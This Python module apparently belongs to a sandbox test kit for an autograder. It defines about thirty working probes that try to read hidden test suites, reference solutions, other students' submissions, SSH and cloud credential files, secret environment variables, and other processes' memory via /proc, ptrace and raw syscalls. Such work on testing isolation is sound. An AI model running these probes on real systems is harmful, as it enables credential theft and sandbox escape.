"""Attacks that want to read what is not theirs: suites, references, other work, memory, the environment."""

from __future__ import annotations

from attacks.corpus import Attack, at_import, in_call, tries

ATTACKS = [
    Attack(
        "open_suite",
        "opens the hidden suite by its path",
        at_import("print('GOT IT', open('@COURSE@/tests/suites/week08/test_layer_norm.py').read()[-300:])"),
    ),
    Attack(
        "open_suite_in_call",
        "opens the hidden suite while it is being checked",
        in_call("print('GOT IT', open('@COURSE@/tests/suites/week08/test_layer_norm.py').read()[-300:])"),
    ),
    Attack(
        "stat_secret",
        "asks whether a file is there",
        tries("""
            import os
            for act in (os.stat, os.lstat, os.access, os.listxattr, os.statvfs, os.path.exists, os.path.getsize):
                attempt(act.__name__, lambda: act('@SECRET@', os.F_OK) if act is os.access else act('@SECRET@'))
            attempt('realpath', lambda: os.path.realpath('@SECRET@', strict=True))
        """),
        only_names=True,
    ),
    Attack(
        "probe_by_errors",
        "tells from the kind of a refusal whether a file is there",
        tries("""
            import ctypes, errno, os

            def kind(act):
                try:
                    act()
                except OSError as error:
                    return (error.errno, re.sub('/[^ :]*', '', str(error)))
                return (0, '')

            def differs(act):
                there, missing = (kind(lambda: act(path)) for path in ('@SECRET@', '@SECRET@_kit_attack_missing'))
                return there != missing and (there, missing)

            for name in ('chdir', 'listdir', 'rmdir', 'readlink'):
                attempt(name, lambda: differs(getattr(os, name)))
            attempt('below', lambda: differs(lambda path: os.stat(path + '/below')))
            attempt('dlopen', lambda: differs(ctypes.CDLL))
        """),
        only_names=True,
    ),
    Attack(
        "os_open_reference",
        "reads the reference with os.open, and by a path-only descriptor",
        tries("""
            import os
            path = '@COURSE@/reference/layer_norm.py'
            attempt('os.open', lambda: os.read(os.open(path, os.O_RDONLY), 60000)[-300:])
            attempt('O_PATH', lambda: os.read(os.open(f'/proc/self/fd/{os.open(path, os.O_PATH)}', os.O_RDONLY), 99))
            folder = lambda: os.open('@COURSE@', os.O_RDONLY | os.O_DIRECTORY)
            attempt('dir_fd', lambda: os.read(os.open('reference/layer_norm.py', os.O_RDONLY, dir_fd=folder()), 99))
        """),
    ),
    Attack(
        "size_of_reference",
        "asks for the size of the reference through a path-only descriptor, and for its rights to it",
        tries("""
            import os
            path = '@COURSE@/reference/layer_norm.py'
            attempt('size', lambda: os.fstat(os.open(path, os.O_PATH)).st_size)
            attempt('may write', lambda: os.access(path, os.W_OK))
        """),
        only_names=True,
    ),
    Attack(
        "read_neighbour",
        "reads the submission of another student, and lists what all have handed in",
        tries("""
            import os, pathlib
            attempt('open', lambda: open('@OTHER@').read()[:200])
            attempt('all', lambda: sorted(path.name for path in pathlib.Path('@OTHER@').parents[1].iterdir())[:5])
            attempt('glob', lambda: [p.read_text()[:50] for p in pathlib.Path('@OTHER@').parents[1].glob('*/*.py')][:3])
        """),
    ),
    Attack(
        "walk_course",
        "walks the course's folder for suites, references and solutions",
        tries("""
            import glob, os, pathlib
            attempt('walk', lambda: [path for path, _, files in os.walk('@COURSE@') if files][:9])
            attempt('scandir', lambda: [entry.path for entry in os.scandir('@COURSE@')][:9])
            attempt('glob', lambda: glob.glob('@COURSE@/**/*.py', recursive=True)[:9])
            attempt('rglob', lambda: [str(path) for path in pathlib.Path('@COURSE@').rglob('test_*')][:9])
        """),
    ),
    Attack(
        "walk_root",
        "walks the whole tree, level by level, for keys, grade books, tests and submissions",
        tries("""
            import os, time
            wanted = {'secret.txt', 'grades.csv', 'gradebook.csv', 'shadow', 'id_rsa', 'id_ed25519', '.ssh', '.aws'}
            wanted |= {'.netrc', '.git-credentials', 'test_layer_norm.py', 'receipts', 'submissions', '.bash_history'}
            end, queue, found = time.process_time() + 0.2, ['/', '/root', '/home', '/tmp', '/srv'], []
            for folder in queue:
                if time.process_time() > end:
                    break
                if folder.startswith(('/proc', '/sys', '/usr')):
                    continue
                try:
                    for entry in os.scandir(folder):
                        if entry.name in wanted:
                            found.append(entry.path)
                        if entry.is_dir(follow_symlinks=False):
                            queue.append(entry.path)
                except OSError:
                    pass
            attempt('there', lambda: sorted(set(found))[:20])
        """),
    ),
    Attack(
        "environments",
        "reads its environment, as the C library has it too, and that of the zygote and the grader",
        tries("""
            import ctypes, os
            telling = re.compile(rb'(?:[A-Z_]*(?:TOKEN|SECRET|PASSWORD|API_KEY)[A-Z_]*|PLANTED)=[^\\0]*')
            attempt('os', lambda: telling.findall(b'\\0'.join(k + b'=' + v for k, v in os.environb.items())))
            words = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), 'environ')
            attempt('C', lambda: words and words[0] and telling.findall(words[0]))
            for pid in ('self', 'thread-self'):
                attempt(pid, lambda: telling.findall(open(f'/proc/{pid}/environ', 'rb').read()))
            for pid in others():  # names only: they are of real processes
                attempt(pid, lambda: re.findall(rb'(?:^|\\0)(\\w+)=', open(f'/proc/{pid}/environ', 'rb').read())[:9])
        """),
    ),
    Attack(
        "process_table",
        "reads what other processes are called, their arguments, state and open files",
        tries("""
            import os
            for pid in others()[:40]:
                for name in ('cmdline', 'stat', 'status', 'maps', 'stack', 'wchan', 'limits', 'cgroup', 'io'):
                    attempt((pid, name), lambda: open(f'/proc/{pid}/{name}', 'rb').read(40))
                attempt((pid, 'fd'), lambda: [os.readlink(f'/proc/{pid}/fd/{n}') for n in os.listdir(f'/proc/{pid}/fd')][:4])
        """),
    ),
    Attack(
        "mem_files",
        "reads the memory of its parent, of the grader and of another worker through /proc",
        tries("""
            import time

            def memory(pid):
                found, end = [], time.process_time() + 0.12
                with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb', 0) as mem:
                    for line in maps:
                        if time.process_time() > end:
                            break
                        if ' rw-p ' in line:
                            first, last = (int(number, 16) for number in line.split()[0].split('-'))
                            mem.seek(first)
                            held = mem.read(min(last - first, 1 << 22))
                            found += PLANTED.findall(held)[:1] or [len(held)]
                return found[-3:]

            for pid in others()[:3]:
                attempt(pid, lambda: memory(pid))
        """),
    ),
    Attack(
        "vm_readv",
        "copies memory out of other processes with process_vm_readv",
        tries("""
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            held, here = ctypes.create_string_buffer(64), (ctypes.c_size_t * 2)(id(re), 64)
            ours = (ctypes.c_size_t * 2)(ctypes.addressof(held), 64)
            for pid in others():
                attempt(pid, lambda: libc.process_vm_readv(pid, ours, 1, here, 1, 0))
        """),
    ),
    Attack(
        "trace_parent",
        "seizes its parent as a debugger would, and lets it go",
        tries("""
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            pid, nothing = os.getppid(), ctypes.c_void_p(0)
            SEIZE, INTERRUPT, DETACH, ALL = 0x4206, 0x4207, 17, 0x40000000

            def seize():
                if libc.ptrace(SEIZE, pid, nothing, nothing) == -1:
                    return -1
                libc.ptrace(INTERRUPT, pid, nothing, nothing)
                libc.waitpid(pid, nothing, ALL)
                libc.ptrace(DETACH, pid, nothing, nothing)
                return pid

            attempt('seized', seize)
        """),
    ),
    Attack(
        "live_objects",
        "searches everything that Python keeps alive, frozen objects included",
        tries("""
            import gc, sys, time
            end, seen, wave, found = time.process_time() + 0.25, set(), [gc.get_objects(), sys.modules], []
            word = ''.join(['MARK', 'ER_'])
            while wave and time.process_time() < end:
                further = []
                for number, thing in enumerate(gc.get_referents(*wave)):
                    if number % 1024 == 0 and time.process_time() > end:
                        break
                    kind = type(thing)
                    if kind is str:
                        if word in thing:
                            found += PLANTED.findall(thing.encode('utf-8', 'replace'))
                    elif kind is bytes:
                        found += PLANTED.findall(thing)
                    elif id(thing) not in seen:
                        seen.add(id(thing))
                        further.append(thing)
                wave = further
            attempt('objects', lambda: found[:3])
        """),
    ),
    Attack(
        "raw_memory",
        "searches all of its memory page by page; a pipe tells which pages can be read",
        tries("""
            import ctypes, os, sys, time
            libc = ctypes.CDLL(None, use_errno=True)
            reading, writing = os.pipe()
            step, end, found = 1 << 16, time.process_time() + 0.3, []

            def search(first, up):
                at, gone = first & -step, 0
                while gone < 200 and time.process_time() < end:
                    size = libc.write(writing, ctypes.c_void_p(at), ctypes.c_size_t(step))
                    gone = gone + 1 if size <= 0 else 0
                    if size > 0:
                        found.extend(PLANTED.findall(os.read(reading, size)))
                    at += step if up else -step

            places = [id(sys.modules), id(sys.version), ctypes.cast(libc.environ, ctypes.c_void_p).value]
            for place in places:
                search(place, True)
                search(place, False)
            attempt('memory', lambda: found[:3])
        """),
    ),
    Attack(
        "fresh_memory",
        "looks into fresh memory for what a worker before it has left",
        in_call("""
            import ctypes, re
            import numpy
            planted, beginning = re.compile(rb"MARKE[R]_[0-9a-f]{16}"), b"MARK" + b"ER_"
            for size in (200, 5000, 300000, 5000000):
                held = [bytes(torch.empty(size, dtype=torch.uint8).numpy()), numpy.empty(size, numpy.uint8).tobytes()]
                held.append(ctypes.string_at(ctypes.create_string_buffer(size), size))
                for piece in held:
                    if beginning in piece and planted.search(piece):  # much sooner than by the pattern alone
                        print('GOT IT', planted.findall(piece)[:3])
        """),
    ),
    Attack(
        "inherited_descriptors",
        "tries every descriptor number for a file or folder that was left open",
        tries("""
            import os, stat
            for number in range(1024):
                try:
                    kind = os.fstat(number).st_mode
                except OSError:
                    continue
                if stat.S_ISREG(kind):
                    attempt((number, 'file'), lambda: os.pread(number, 4096, 0) or 'empty')
                if stat.S_ISDIR(kind):
                    attempt((number, 'folder'), lambda: os.listdir(number) or 'empty')
                    attempt((number, 'above'), lambda: os.listdir(os.open('..', os.O_RDONLY, dir_fd=number)))
                if stat.S_ISCHR(kind) or stat.S_ISBLK(kind):
                    attempt((number, 'device'), lambda: stat.S_ISBLK(kind) and os.pread(number, 512, 0))
                if not (stat.S_ISFIFO(kind) or stat.S_ISSOCK(kind) or stat.S_IFMT(kind) == stat.S_IFCHR):
                    attempt((number, 'other'), lambda: stat.S_IFMT(kind))
        """),
    ),
    Attack(
        "import_graders",
        "imports the grader, pytest, the suite and the reference",
        tries("""
            import importlib, importlib.util, os, sys

            def by_path(path):
                spec = importlib.util.spec_from_file_location('kit_attack', path)
                module = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(module)
                return module.PLANTED

            attempt('reference', lambda: by_path('@COURSE@/reference/layer_norm.py'))
            sys.path += ['@COURSE@', '@COURSE@/reference', '@COURSE@/tests/suites/week08', '@KIT@']
            for name in ('autograder', 'autograder.sandbox'):
                for up in ('@KIT@', '@COURSE@/..'):
                    attempt(name, lambda: sys.modules[name].__path__.append(f"{up}/{name.replace('.', '/')}"))
            for name in ('autograder.grading.run', 'autograder.suite.checking', 'autograder.sandbox.host', 'autograder.cli',
                         'pytest', '_pytest.reports', 'test_layer_norm', 'reference.layer_norm', 'conftest'):
                attempt(name, lambda: importlib.import_module(name).__file__)
            sys.path[-4:] = []
        """),
    ),
    Attack(
        "many_readers",
        "reads a file with every reader of the libraries, down to C's own",
        tries("""
            import codecs, configparser, ctypes, fileinput, gzip, importlib.machinery, io, json, linecache, lzma, mmap
            import os, pathlib, runpy, shutil, sqlite3, sys, tarfile, tokenize, zipfile
            import numpy, torch
            path, libc = '@SECRET@', ctypes.CDLL(None)
            libc.fopen.restype = ctypes.c_void_p

            def refused(act):  # readers of formats: the text is of a wrong form, so they must have read it
                try:
                    act()
                except OSError:
                    return False
                except (ValueError, zipfile.BadZipFile, tarfile.TarError, configparser.Error, sqlite3.DatabaseError, SyntaxError) as e:
                    return 'unable to open' not in str(e) and 'not found' not in str(e) and type(e).__name__
                return True

            attempt('mmap', lambda: mmap.mmap(os.open(path, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:])
            attempt('memmap', lambda: numpy.memmap(path, mode='r').tobytes())
            attempt('fromfile', lambda: numpy.fromfile(path, numpy.uint8).tobytes())
            attempt('genfromtxt', lambda: str(numpy.genfromtxt(path, str)))
            attempt('from_file', lambda: bytes(torch.from_file(path, size=20, dtype=torch.uint8).numpy()))
            attempt('storage', lambda: bytes(torch.UntypedStorage.from_file(path, False, 20)))
            attempt('linecache', lambda: linecache.getline(path, 1))
            attempt('fileinput', lambda: list(fileinput.input(path)))
            attempt('codecs', lambda: codecs.open(path).read())
            attempt('FileIO', lambda: io.FileIO(path).readall())
            attempt('open_code', lambda: io.open_code(path).read())
            attempt('tokenize', lambda: tokenize.open(path).read())
            attempt('pathlib', lambda: pathlib.Path(path).read_bytes())
            attempt('loader', lambda: importlib.machinery.SourceFileLoader('kit_attack', path).get_data(path))
            attempt('copyfile', lambda: shutil.copyfile(path, '/dev/null'))
            attempt('fopen', lambda: libc.fopen(path.encode(), b'r'))
            attempt('sendfile', lambda: os.sendfile(1, os.open(path, os.O_RDONLY), 0, 40))
            attempt('zipfile', lambda: refused(lambda: zipfile.ZipFile(path)))
            attempt('tarfile', lambda: refused(lambda: tarfile.open(path)))
            attempt('configparser', lambda: refused(lambda: configparser.ConfigParser().read_file(open(path))))
            attempt('runpy', lambda: refused(lambda: runpy.run_path(path)))
            attempt('sqlite', lambda: refused(lambda: sqlite3.connect(f'file:{path}?mode=ro', uri=True).execute('pragma user_version').fetchall() and sqlite3.connect(f'file:{path}?mode=ro', uri=True).execute('select * from sqlite_master').fetchall()))
        """),
    ),
    Attack(
        "quoted_by_a_traceback",
        "lets a traceback quote the lines of the hidden suite",
        tries("""
            import io, sys, traceback
            path = '@COURSE@/tests/suites/week08/test_layer_norm.py'

            def quoted(line):
                try:
                    exec(compile('\\n' * (line - 1) + 'raise ValueError', path, 'exec'), {'__file__': path})
                except ValueError:
                    said, sys.stderr = sys.stderr, io.StringIO()
                    sys.__excepthook__(*sys.exc_info())
                    said, sys.stderr = sys.stderr.getvalue(), said
                    said += traceback.format_exc()
                    return [text for text in said.splitlines() if 'agree' in text or 'def test' in text]

            for line in range(1, 60):
                attempt(line, lambda: quoted(line))
        """),
    ),
    Attack(
        "roundabout_paths",
        "goes to a file by way of links in /proc, dots, and folders that processes stand in",
        tries("""
            import os
            path = '@SECRET@'
            for pid in ['self', 'thread-self', *others()[:40]]:
                for way in ('root', 'cwd', 'task/1/root'):
                    attempt((pid, way), lambda: open(f'/proc/{pid}/{way}{path}').read())
                    attempt((pid, way, 'list'), lambda: pid != 'self' and os.listdir(f'/proc/{pid}/{way}/root'))
            for start in ('', '/', '/proc/', '/dev/', os.path.dirname(os.__file__) + '/'):
                attempt(start, lambda: open(start + '../' * 40 + path.lstrip('/')).read())
            attempt('chroot', lambda: os.chroot('.') is None and open('../' * 40 + path).read())
        """),
    ),
    Attack(
        "traces_of_others",
        "looks where earlier submissions could have left something",
        tries("""
            import os, tempfile
            for folder in ('/tmp', '/dev/shm', '/var/tmp', '/run', '/dev/mqueue', '/run/lock', '.', tempfile.gettempdir(), '@HOME@'):
                attempt(folder, lambda: [n for n in os.listdir(folder) if re.search(r'kit_|\\.(py|pt|csv)$|bashrc|pymp|torch_', n)])
            attempt('history', lambda: open('@HOME@/.bashrc').read())
        """),
    ),
    Attack(
        "frames_above",
        "climbs its call stack and looks into every frame for expected values and planted text",
        in_call("""
            import re, sys
            planted, frame = re.compile("MARKE[R]_[0-9a-f]{16}"), sys._getframe(1)
            while frame is not None:
                for name, value in list(frame.f_locals.items()):
                    if name in ('expected', 'reference', 'oracle', 'want', 'wanted', 'solution'):
                        print('GOT IT', name, str(value)[:100])
                    if planted.search(repr(value)[:20000]):
                        print('GOT IT', planted.search(repr(value))[0])
                frame = frame.f_back
        """),
    ),
    Attack(
        "file_handles",
        "opens files by handles made up from inode numbers, past all paths",
        tries("""
            import ctypes, os, struct
            libc = ctypes.CDLL(None, use_errno=True)
            at_here = -100

            def real():
                handle, mount = ctypes.create_string_buffer(struct.pack('Ii', 128, 0), 136), ctypes.c_int()
                if libc.name_to_handle_at(at_here, b'@SECRET@', handle, ctypes.byref(mount), 0):
                    return -1
                return os.read(libc.open_by_handle_at(os.open('/tmp', os.O_RDONLY), handle, 0), 60)

            def made_up(inode, length):
                body = struct.pack('II', inode, 0) if length == 8 else struct.pack('IIIII', inode, 0, 0, 0, 0)
                return libc.open_by_handle_at(at_here, ctypes.create_string_buffer(struct.pack('Ii', length, 1) + body), 0)

            attempt('real', real)
            for inode in (1, 2, 128, 256):
                attempt(inode, lambda: made_up(inode, 8))
        """),
    ),
    Attack(
        "newer_calls",
        "opens a file by calls newer than most filters: openat2, io_uring, open_tree, fsopen",
        tries("""
            import ctypes, os, struct
            libc = ctypes.CDLL(None, use_errno=True)
            how = ctypes.create_string_buffer(struct.pack('QQQ', os.O_RDONLY, 0, 0))
            room = ctypes.create_string_buffer(256)
            attempt('openat2', lambda: os.read(libc.syscall(437, -100, b'@SECRET@', how, ctypes.c_size_t(24)), 60))
            attempt('io_uring', lambda: libc.syscall(425, 4, room))
            attempt('open_tree', lambda: libc.syscall(428, -100, b'/', 1))
            attempt('fsopen', lambda: libc.syscall(430, b'proc', 0))
            attempt('fspick', lambda: libc.syscall(433, -100, b'/', 0))
            attempt('statmount', lambda: libc.syscall(458, ctypes.create_string_buffer(struct.pack('IIQQ', 24, 0, 0xFFFFFFFFFFFFFFFF, 0)), room, 8, 0))
            attempt('memfd_secret', lambda: libc.syscall(447, 0))
        """),
    ),
    Attack(
        "by_a_link",
        "makes symbolic and hard links to a file and reads through them",
        tries("""
            import os
            for folder in ('/tmp', '/dev/shm', '/var/tmp', '.', os.path.dirname(os.__file__)):
                for make in (os.symlink, os.link):
                    link = f'{folder}/kit_attack_{make.__name__}'
                    attempt((folder, make.__name__), lambda: make('@SECRET@', link) or open(link).read())
                    attempt((folder, 'made'), lambda: os.path.lexists(link))
                    try:
                        os.unlink(link)
                    except OSError:
                        pass
        """),
    ),
    Attack(
        "kernel_files",
        "reads the kernel's own files: its log, symbols, mounts, memory and disks",
        tries("""
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            for path in ('/proc/kallsyms', '/proc/kcore', '/proc/iomem', '/proc/cmdline', '/proc/mounts', '/proc/self/mountinfo',
                         '/proc/self/maps', '/proc/net/unix', '/proc/net/tcp', '/proc/sys/kernel/random/boot_id', '/proc/version',
                         '/proc/keys', '/proc/sysvipc/shm', '/proc/self/cgroup', '/sys/kernel/notes', '/sys/class/net/lo/address',
                         '/sys/class/dmi/id/product_name', '/dev/mem', '/dev/kmem', '/dev/port', '/dev/kmsg', '/dev/vda', '/dev/sda',
                         '/dev/nvme0n1', '/dev/fuse', '/dev/kvm', '/etc/passwd', '/etc/hostname', '/etc/machine-id'):
                attempt(path, lambda: os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 40))
            attempt('klogctl', lambda: libc.klogctl(3, ctypes.create_string_buffer(200), 200))
        """),
    ),
    Attack(
        "keyrings",
        "searches and reads the kernel's keyrings",
        tries("""
            import ctypes, platform
            libc = ctypes.CDLL(None, use_errno=True)
            add_key, request_key, keyctl = {'x86_64': (248, 249, 250), 'aarch64': (217, 218, 219)}[platform.machine()]
            room = ctypes.create_string_buffer(256)
            GET_ID, READ, DESCRIBE, UNLINK = 0, 11, 6, 9
            for ring in (-1, -2, -3, -4, -5):  # of the thread, process, session, user, user's session
                attempt((ring, 'id'), lambda: libc.syscall(keyctl, GET_ID, ring, 0))
                attempt((ring, 'read'), lambda: libc.syscall(keyctl, READ, ring, room, 256))
                attempt((ring, 'describe'), lambda: libc.syscall(keyctl, DESCRIBE, ring, room, 256))
            attempt('request', lambda: libc.syscall(request_key, b'user', b'kit_attack', None, -3))
        """),
    ),
    Attack(
        "observers",
        "asks the kernel for instruments that look into other processes: perf, bpf, userfaultfd, kcmp",
        tries("""
            import ctypes, os, platform, struct
            libc = ctypes.CDLL(None, use_errno=True)
            perf, bpf, fault, kcmp = {'x86_64': (298, 321, 323, 312), 'aarch64': (241, 280, 282, 272)}[platform.machine()]
            event = ctypes.create_string_buffer(struct.pack('IIQ', 1, 128, 1), 128)  # software: clock of the task
            for pid in (0, os.getppid(), -1):
                attempt(('perf', pid), lambda: libc.syscall(perf, event, pid, 0 if pid == -1 else -1, -1, ctypes.c_ulong(0)))
            attempt('bpf', lambda: libc.syscall(bpf, 0, ctypes.create_string_buffer(struct.pack('IIII', 2, 4, 8, 1), 128), 128))
            attempt('userfaultfd', lambda: libc.syscall(fault, 0))
            attempt('kcmp', lambda: libc.syscall(kcmp, os.getpid(), os.getppid(), 1, 0, 0))
        """),
    ),
    Attack(
        "watchers",
        "asks the kernel to tell it whenever somebody opens a file",
        tries("""
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            attempt('inotify', lambda: libc.inotify_init1(0))
            attempt('watched', lambda: libc.inotify_add_watch(libc.inotify_init1(0), b'@COURSE@', 0x20))
            attempt('fanotify', lambda: libc.fanotify_init(0, 0))
        """),
    ),
    Attack(
        "others_clocks",
        "reads the CPU clocks and the lock list of other processes, which tell when and what they compute",
        tries("""
            import ctypes, os, platform, time
            libc = ctypes.CDLL(None, use_errno=True)
            locks = {'x86_64': 274, 'aarch64': 100}[platform.machine()]
            head, size = ctypes.c_void_p(), ctypes.c_size_t()
            for pid in others():
                attempt((pid, 'clock'), lambda: time.clock_gettime((~pid << 3) | 2))
                attempt((pid, 'locks'), lambda: libc.syscall(locks, pid, ctypes.byref(head), ctypes.byref(size)))
        """),
    ),
]
